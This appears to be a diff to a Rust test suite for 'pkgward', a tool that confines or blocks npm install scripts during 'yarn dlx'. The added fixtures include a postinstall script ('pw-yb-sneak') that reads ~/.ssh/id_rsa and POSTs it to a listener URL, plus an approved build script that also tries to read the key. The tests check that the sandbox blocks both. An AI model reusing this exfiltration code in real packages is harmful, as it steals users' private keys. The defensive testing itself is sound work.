@@ -107,6 +107,54 @@ fn fixtures() {
                 .file("post.js", js_marker("yb-tool"))
                 .executable("tool.js", "#!/usr/bin/env node\nconsole.log('tool ran');\n"),
         );
+        // `yarn dlx` of a tool whose approved dependency builds what the
+        // tool needs (a native binary's postinstall) and also tries to read
+        // a private key, next to a malicious sibling that tries to send it.
+        r.publish_npm(
+            &NpmPackage::new("pw-yb-native", "1.0.0")
+                .script("postinstall", "node build.js")
+                .file(
+                    "build.js",
+                    format!(
+                        "{}let key = 'unreadable';\n\
+                         try {{ key = fs.readFileSync(path.join(require('os').homedir(), '.ssh', 'id_rsa'), 'utf8'); }} catch (e) {{}}\n\
+                         fs.appendFileSync(path.join(dir, 'yb-native'), key + '\\n');\n\
+                         fs.writeFileSync(path.join(__dirname, 'built.txt'), 'native\\n');\n",
+                        js_marker("yb-native")
+                    ),
+                ),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-yb-sneak", "1.0.0")
+                .script("postinstall", "node sneak.js")
+                .file(
+                    "sneak.js",
+                    format!(
+                        "{}const os = require('os'), http = require('http');\n\
+                         const url = fs.readFileSync(path.join(os.homedir(), '.exfil-url'), 'utf8').trim();\n\
+                         let key = '';\n\
+                         try {{ key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); }} catch (e) {{}}\n\
+                         const req = http.request(url + '/key', {{ method: 'POST' }}, () => {{}});\n\
+                         req.on('error', () => {{}}); req.end(key);\n",
+                        js_marker("yb-sneak")
+                    ),
+                ),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-yb-cli", "1.0.0")
+                .dep("pw-yb-native", "^1.0.0")
+                .dep("pw-yb-sneak", "^1.0.0")
+                .field("bin", serde_json::json!({"pw-yb-cli": "cli.js"}))
+                .executable(
+                    "cli.js",
+                    "#!/usr/bin/env node\n\
+                     const fs = require('fs'), path = require('path');\n\
+                     const dir = path.dirname(require.resolve('pw-yb-native/package.json'));\n\
+                     if (!fs.existsSync(path.join(dir, 'built.txt'))) { console.log('native missing'); process.exit(1); }\n\
+                     fs.writeFileSync(path.join(process.cwd(), 'created.txt'), 'ok\\n');\n\
+                     console.log('native ok');\n",
+                ),
+        );
         // Each build appends a line: how often it ran.
         for v in ["1.0.0", "1.1.0"] {
             r.publish_npm(
@@ -622,8 +670,8 @@ fn what_was_denied_runs_once_approved() {
 }
 
 /// `yarn dlx`: the fetched package runs only when the policy approves it;
-/// the install-time code of what it fetched runs not at all, and is
-/// listed (the denied ones with their approve command) and recorded.
+/// the install-time code of what it fetched runs when approved, and the
+/// rest is listed (with its approve command) and recorded.
 #[test]
 fn yarn_dlx_lists_and_records_what_it_did_not_build() {
     let g = setup("[scripts]\nallow = [\"npm:pw-yb-tool\"]\n", APP);
@@ -632,14 +680,11 @@ fn yarn_dlx_lists_and_records_what_it_did_not_build() {
     let out = text(&o.stdout);
     assert!(o.status.success(), "{out}\n{err}");
     assert!(out.contains("tool ran"), "{out}\n{err}");
-    assert_eq!(g.sb.marker("yb-tool"), None, "{err}");
+    // Approved: built inside dlx's run (confined); its denied dependency not.
+    assert_eq!(g.sb.marker("yb-tool").as_deref(), Some("ran\n"), "{err}");
     assert_eq!(g.sb.marker("yb-dep"), None, "{err}");
     assert!(err.contains("pkgward approve npm:pw-yb-dep@1.0.0"), "{err}");
     assert!(!err.contains("approve npm:pw-yb-tool"), "{err}");
-    assert!(
-        err.contains("confined); not run: pw-yb-tool@1.0.0"),
-        "{err}"
-    );
     let recs = last_scripts(&g);
     let dep = recs
         .iter()
@@ -652,7 +697,7 @@ fn yarn_dlx_lists_and_records_what_it_did_not_build() {
         .find(|r| r["package"] == "pw-yb-tool")
         .expect("pw-yb-tool recorded");
     assert_eq!(tool["decision"], "approved");
-    assert_eq!(tool["ran"], false);
+    assert_eq!(tool["ran"], true);
     assert_eq!(tool["version"], "1.0.0");
     // Not approved: not fetched or run at all.
     let g = setup("", APP);
@@ -664,6 +709,60 @@ fn yarn_dlx_lists_and_records_what_it_did_not_build() {
         "{}",
         text(&o.stderr)
     );
+}
+
+/// `yarn dlx` builds the approved packages of what it fetched, confined
+/// (the private key unreadable to it), inside its own run: the tool works.
+/// The unapproved sibling does not run (the listener gets nothing), and is
+/// listed and recorded. Without the approval the tool is broken.
+#[test]
+fn yarn_dlx_builds_approved_packages_confined() {
+    let g = setup(
+        "[scripts]\nallow = [\"npm:pw-yb-cli\", \"npm:pw-yb-native@^1.0.0\"]\n",
+        APP,
+    );
+    std::fs::create_dir_all(g.sb.home.join(".ssh")).unwrap();
+    std::fs::write(g.sb.home.join(".ssh/id_rsa"), "FAKE-PRIVATE-KEY\n").unwrap();
+    let o = yarn(&g, &["dlx", "pw-yb-cli"]);
+    let (out, err) = (text(&o.stdout), text(&o.stderr));
+    assert!(o.status.success(), "{out}\n{err}");
+    assert!(out.contains("native ok"), "{out}\n{err}");
+    // The tool wrote into the current directory.
+    assert!(g.sb.work.join("created.txt").is_file());
+    let native = g.sb.marker("yb-native").expect("the approved build ran");
+    assert!(!native.contains("FAKE-PRIVATE-KEY"), "{native}");
+    assert_eq!(g.sb.marker("yb-sneak"), None, "{err}");
+    assert_eq!(g.exfil.connections().len(), 0, "the listener was reached");
+    assert!(
+        err.contains("pkgward approve npm:pw-yb-sneak@1.0.0"),
+        "{err}"
+    );
+    let recs = last_scripts(&g);
+    let built = recs
+        .iter()
+        .find(|r| r["package"] == "pw-yb-native")
+        .expect("pw-yb-native recorded");
+    assert_eq!(built["decision"], "approved", "{built:#}");
+    assert_eq!(built["ran"], true, "{built:#}");
+    assert_eq!(built["exit_code"], 0, "{built:#}");
+    assert!(built["duration_ms"].is_number(), "{built:#}");
+    assert!(built["sandbox"].is_object(), "{built:#}");
+    let sneak = recs
+        .iter()
+        .find(|r| r["package"] == "pw-yb-sneak")
+        .expect("pw-yb-sneak recorded");
+    assert_eq!(sneak["decision"], "deny");
+    assert_eq!(sneak["ran"], false);
+    // Not approved: not built, and the tool cannot work.
+    let g = setup("[scripts]\nallow = [\"npm:pw-yb-cli\"]\n", APP);
+    let o = yarn(&g, &["dlx", "pw-yb-cli"]);
+    assert!(
+        text(&o.stdout).contains("native missing"),
+        "{}",
+        text(&o.stderr)
+    );
+    assert!(!o.status.success());
+    assert_eq!(g.sb.marker("yb-native"), None, "{}", text(&o.stderr));
 }
 
 /// `pkgward scripts --json` in the sandbox's project (`extra`: variables).
